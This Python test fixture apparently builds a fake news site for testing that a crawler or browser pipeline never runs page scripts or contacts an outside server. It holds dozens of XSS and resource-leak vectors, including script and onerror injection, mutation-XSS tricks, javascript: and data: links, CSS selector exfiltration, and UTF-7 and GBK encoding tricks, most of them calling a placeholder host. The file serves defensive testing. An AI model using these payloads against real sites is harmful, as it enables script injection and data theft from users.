"""Pages that try to run something, to ask somebody, or to leave: one vector each, for crawls and real browsers."""

# ruff: noqa: E501  a vector is a line

from __future__ import annotations

from collections.abc import Iterator

from conftest import Answer
from small_site import article, list_page, small_site

#: What a script does where one runs. OUT is the server that nobody is to ask, NAME the vector.
RUN = "alert(1);document.title='hostile';new Image().src='OUT/NAME-ran'"
#: The same without a space or a quotation mark.
QUICK = "alert(1)"
#: Vectors by name; they stand behind the text of an article.
BODIES: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script-src": "<script src='OUT/NAME.js'></script>",
    "script-module": f"<script type=module>{RUN}</script>",
    "script-case": f"<ScRiPt/x>{RUN}</sCrIpT >",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "img-onerror": f'<img src=x onerror="{RUN}">',
    "img-src": "<img src='OUT/NAME.png'>",
    "img-srcset": "<img srcset='OUT/NAME.png 1x, OUT/NAME2.png 2x' src='OUT/NAME3.png'>",
    "img-lowsrc": "<img lowsrc='OUT/NAME.png' dynsrc='OUT/NAME2.png' longdesc='OUT/NAME3'>",
    "picture": "<picture><source srcset='OUT/NAME.webp'><img src='OUT/NAME.png'></picture>",
    "body-onload": f'<body onload="{RUN}" background="OUT/NAME.png">',
    "svg-onload": f'<svg onload="{RUN}"><image href="OUT/NAME.png"/><use href="OUT/NAME.svg#x"/></svg>',
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text>x</text></a></svg>",
    "svg-style": "<svg><style>@import 'OUT/NAME.css';</style></svg>",
    "svg-foreign": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={QUICK}&gt;'>",
    "math-href": f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={QUICK}>">',
    "mxss-svg-style": f'<svg></p><style><a id="</style><img src=1 onerror={QUICK}>">',
    "mxss-form": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{QUICK}">',
    "mxss-template": f"<template><s></template><img src=x onerror='{QUICK}'></s></template>",
    "mxss-comment": f"<!--><img src=x onerror=\"{QUICK}\">--><!-- --!><img src=x onerror='{QUICK}'>",
    "mxss-cdata": f'<![CDATA[<img src=x onerror="{QUICK}">]]><svg><![CDATA[><img src=x onerror="{QUICK}">]]></svg>',
    "conditional": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><![if !IE]><img src='OUT/NAME.png'><![endif]>",
    "processing": "<?xml-stylesheet href='OUT/NAME.css' type='text/css'?>",
    "href-javascript": f"<a href='javascript:{RUN}' id=go autofocus>x</a><a href=' java\tscript:alert(1)'>y</a>",
    "href-entities": "<a href='&#106;&#97;vascript&colon;alert(1)' id=go>x</a><a href='&#x01;javascript:alert(1)'>y</a>",
    "href-data": f'<a href="data:text/html,<script>{RUN}</script>" target=_top id=go>x</a>',
    "href-blank": "<a href='OUT/NAME' target=_blank rel=opener id=go>x</a><a href='OUT/NAME2' target=_top download>y</a>",
    "ping": "<a href='/a/0.html' ping='OUT/NAME' id=go>x</a>",
    "area": "<map name=m><area shape=default href='OUT/NAME' id=go></map><img usemap='#m' src='OUT/NAME.png'>",
    "iframe": "<iframe src='OUT/NAME.html'></iframe><frame src='OUT/NAME2.html'>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.document.title=1;{RUN}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": "<object data='OUT/NAME.swf'><param name=src value='OUT/NAME2'></object><embed src='OUT/NAME3.swf'>",
    "applet": "<applet code='OUT/NAME.class' archive='OUT/NAME.jar'></applet>",
    "form": "<form action='OUT/NAME' id=f><input name=a autofocus onfocus='f.submit()'><button id=go formaction='OUT/NAME2'>"
    "x</button></form>",
    "input-image": "<input type=image src='OUT/NAME.png'><isindex action='OUT/NAME2'>",
    "video": "<video poster='OUT/NAME.png' src='OUT/NAME.mp4' autoplay><track src='OUT/NAME.vtt' default></video>",
    "audio": "<audio src='OUT/NAME.mp3' autoplay preload=auto><source src='OUT/NAME2.mp3'></audio>",
    "details-toggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "marquee": f'<marquee onstart="{RUN}" width=1>x</marquee>',
    "animation": f"<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart=\"{RUN}\">x</p>",
    "style-import": "<style>@import 'OUT/NAME.css'; @import url(OUT/NAME2.css);</style>",
    "style-url": "<style>body{background:url(OUT/NAME.png)} p{list-style:url('OUT/NAME2.png')}</style>",
    "style-font": "<style>@font-face{font-family:h;src:url(OUT/NAME.woff)} body{font-family:h!important}</style>",
    "style-escape": r"<style>body{background:\75 rl(OUT/NAME.png);b\61ckground-image:ur\6c('OUT/NAME2.png')}</style>",
    "style-set": "<style>body{background-image:image-set('OUT/NAME.png' 1x);border-image:url(OUT/NAME2.png)}</style>",
    "style-expression": f'<p style="width:expression({RUN});behavior:url(OUT/NAME.htc);-moz-binding:url(OUT/NAME2)">x</p>',
    "style-attribute": "<p style=\"background:url('OUT/NAME.png')\">x</p><p style='content:url(OUT/NAME2.png)'>y</p>",
    "style-end": f"<style>a{{}}</sty</style/x><script>{RUN}</script></style>",
    "style-value": "<style>input[value^='a']{background:url(OUT/NAME.png)} :root{--x:url(OUT/NAME2.png);background:var(--x)}"
    "</style><input value=abc>",
    "link-stylesheet": "<link rel=stylesheet href='OUT/NAME.css'>",
    "link-preload": "<link rel=preload as=image href='OUT/NAME.png'><link rel=prefetch href='OUT/NAME2'>"
    "<link rel=dns-prefetch href='//hostile.invalid'><link rel=preconnect href='OUT'><link rel=modulepreload href='OUT/NAME3'>",
    "link-icon": "<link rel='shortcut icon' href='OUT/NAME.ico'><link rel=manifest href='OUT/NAME.json'>",
    "attribute-break": f'<p title="x" onmouseover="{RUN}" x=\'"><img src=x onerror={RUN}>\'>x</p><img alt="`onerror={RUN}">',
    "backtick": f"<img src=`x` alt='` onerror={RUN} x=`'>",
    "nul": f"<scr\0ipt>{RUN}</script><img src='x' oner\0ror='{RUN}'><img\0 src=x onerror='{RUN}'>",
    "contenteditable": f'<p contenteditable autofocus tabindex=0 onfocus="{RUN}" id=go accesskey=x>x</p>',
    "custom-element": f'<x-y is=z onclick="{RUN}" id=go>x</x-y><slot onslotchange="{RUN}"></slot>',
    "opener": "<script>if(opener)opener.location='OUT/NAME'</script><a href='OUT/NAME' target=x id=go>x</a>",
    "frameset": "<frameset><frame src='OUT/NAME.html'></frameset>",
    "textarea": f"<textarea><img src=x onerror='{RUN}'></textarea><title><img src=x onerror='{RUN}'></title>",
    "xmp": f"<xmp><img src=x onerror='{RUN}'></xmp><noembed><img src=x onerror='{RUN}'></noembed>",
    "plaintext": f"<plaintext><script>{RUN}</script>",
    "unicode": "<a href='jav&#x200b;ascript:alert(1)'>\u202egnp.exe\u202c</a><img src='\uff4aavascript:alert(1)'>",
    "placeholder": '<a href="gongkai-link-0">x</a> href="gongkai-link-1" <img src="gongkai-picture-0" alt="&lt;img src=x&gt;">',
}
#: Vectors of the head of a page.
HEADS: dict[str, str] = {
    "meta-refresh": "<meta http-equiv=refresh content='30;url=OUT/NAME'><meta http-equiv=refresh content='0;url=OUT/NAME2' x>",
    "base": "<base href='OUT/NAME/' target=_top>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src 'unsafe-inline'\">"
    "<meta http-equiv=Set-Cookie content='a=b'><meta name=referrer content=unsafe-url>",
}
#: Vectors of encodings: a page's bytes, and what its server says of them.
_UTF_7 = b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
NAMES = (*BODIES, *HEADS, "utf-7", "gbk", "utf-16", "control")


def address_of(name: str) -> str:
    """The path of a vector's page."""
    return f"/a/{NAMES.index(name) + 100}.html"


def _filled(text: str, name: str, out: str) -> str:
    return text.replace("OUT", out).replace("NAME", name)


def _page(name: str, out: str) -> Answer:
    html = article(f"关于重现网页的通知之{NAMES.index(name) + 1}", "2018-03-04")
    if name in BODIES:
        html = html.replace("</body>", f"{_filled(BODIES[name], name, out)}</body>")
    elif name in HEADS:
        html = html.replace("<title>", f"{_filled(HEADS[name], name, out)}<title>")
    elif name == "utf-7":
        html = html.replace("</body>", _UTF_7.decode() + "</body>")
        return Answer(html.encode(), headers={"Content-Type": "text/html; charset=utf-7"})
    elif name == "gbk":
        head, _, tail = html.partition("</body>")
        trick = b'<img alt="\x81" src=x onerror="alert(1)//">' + b"<p title='\xbf\x27 onmouseover=alert(1) '>x</p>"
        return Answer(
            head.encode("gbk") + trick + tail.encode("gbk"), headers={"Content-Type": "text/html; charset=gbk"}
        )
    elif name == "utf-16":
        whole = html.replace("</body>", f"<script>{_filled(RUN, name, out)}</script></body>")
        return Answer(whole.encode("utf-16"), headers={"Content-Type": "text/html"})
    return Answer(html)


def gallery(out: str) -> dict[str, Answer]:
    """The site; ``out`` is the address of the server that nobody is to ask."""
    pages: dict[str, Answer] = {name: Answer(body) if isinstance(body, str) else body for name, body in _frame()}
    pages |= {address_of(name): _page(name, out) for name in NAMES}
    return pages


def _frame() -> Iterator[tuple[str, str | Answer]]:
    yield from (
        (path, body) for path, body in small_site().items() if not path.startswith(("/news", "/notices", "/a/"))
    )
    entries = [
        (address_of(name), f"关于重现网页的通知之{number + 1}", "2018-03-04") for number, name in enumerate(NAMES)
    ]
    yield "/news/", list_page(*entries)
    yield "/notices/", list_page(*entries[:3])
